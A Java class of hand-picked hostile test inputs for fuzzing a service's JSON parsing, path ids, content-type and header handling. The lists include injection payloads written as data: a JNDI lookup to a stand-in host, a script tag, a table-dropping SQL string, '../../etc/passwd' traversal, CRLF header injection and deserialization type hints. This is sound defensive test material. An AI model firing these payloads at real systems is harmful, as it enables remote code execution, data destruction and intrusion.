package org.peipao.ops.security;

import java.util.List;

/** Hand-picked values known to trouble JSON parsers, number and date types, paths and header handling. */
final class HostileExamples {

    /** JSON fragments for one field: wrong types, nulls, numbers no type holds, odd dates, injections. */
    static final List<String> VALUES = List.of("null", "true", "false", "0", "-1", "[]", "{}", "\"\"", "\"   \"",
            "[null]", "{\"$ne\":null}", "\"\\u0000\"", "\"\\ud800\"", "\"a\\udc00b\"", "\"\\uffff\"",
            "1e999999999", "-1e-999999999", "1E+2147483647", "0E-2147483647", "-0.0",
            "0.000000000000000000000000000001", "123456789012345678901234567890", "1.005",
            "NaN", "Infinity", "-Infinity", "0x10", "01", ".5", "1.", "+1", "2147483648", "-2147483649",
            "\"2025-02-30\"", "\"+999999999-12-31\"", "\"-999999999-01-01\"", "\"2025-13-01\"",
            "\"9999-12-31\"", "\"2025-06-10T00:00:00Z\"", "[\"AI\",\"AI\"]", "[\"AI\",null]",
            "\"${jndi:ldap://example.org/a}\"", "\"<script>alert(1)</script>\"",
            "\"'; DROP TABLE DomainEventEntry; --\"", "\"../../etc/passwd\"", "\"\\r\\nSet-Cookie: a=b\"",
            "\"tech_broker\"", "\"TECH_BROKER \"", "\"\\u202eRKOB_HCET\"", "{\"@class\":\"java.net.URL\"}",
            "[\"java.util.HashMap\",{}]");

    /** Ids already percent-encoded (or badly so) as a path would carry them. */
    static final List<String> ENCODED_IDS = List.of("%2e%2e", "%2E", "a;b", "a;jsessionid=1", "%2F", "a%2fb", "%5C",
            "a%5cb", "%00", "%25", "%", "%zz", "a%", "~", "!", "$", "*", "a:b", "a@b", "a,b", "a=b", "(a)", "'",
            "%C0%AE%C0%AE", "%E5%AD%97", "%0D%0ASet-Cookie:a=b", "%09", "%20");

    /** Ids sent raw, as no well-behaved client would put them in a request line. */
    static final List<String> RAW_IDS = List.of("a b", "é", "字", "a\tb", "a\u0000b", "a\u007fb", "a\"b", "a<b>",
            "a\\b", "a{b}", "a|b", "a^b", "a`b", "", "a/b", "a//b", "../companions", "a?b", "a#b");

    static final List<String> CONTENT_TYPES = List.of("", "application/json; charset=bogus",
            "application/json; charset=utf-16", "application/json; charset=UTF-32BE", "application/json; charset=\"",
            "application/json;;;", "application/json; charset=ISO-8859-1", "application/*", "*/*", "*", "/",
            "text/plain", "application/xml", "text/xml", "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x", "multipart/form-data", "application/x-java-serialized-object",
            "application/json\u0000", "APPLICATION/JSON", "application/json+x", "application/problem+json",
            "application/vnd.api+json", "application/x-ndjson", "application/json; q=0.5",
            "application/json, text/plain", "application/json; boundary=" + "b".repeat(4000),
            "application/json; charset=utf-8; charset=utf-16", "json", "application/json\r\nX-Extra: 1");

    static final String CHARSET_LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

    static final List<String> CORRELATION_IDS = List.of("", " ", "x".repeat(65), "x".repeat(4000), "x".repeat(10_000),
            "<script>alert(1)</script>", "abc\r\nSet-Cookie: a=b", "abc\nX-Injected: 1", "%0d%0a",
            "${jndi:ldap://example.org/a}", "../../etc/passwd", "a b", "\u00e9t\u00e9", "abc\u0000", "abc\tdef");

    private HostileExamples() {
    }
}
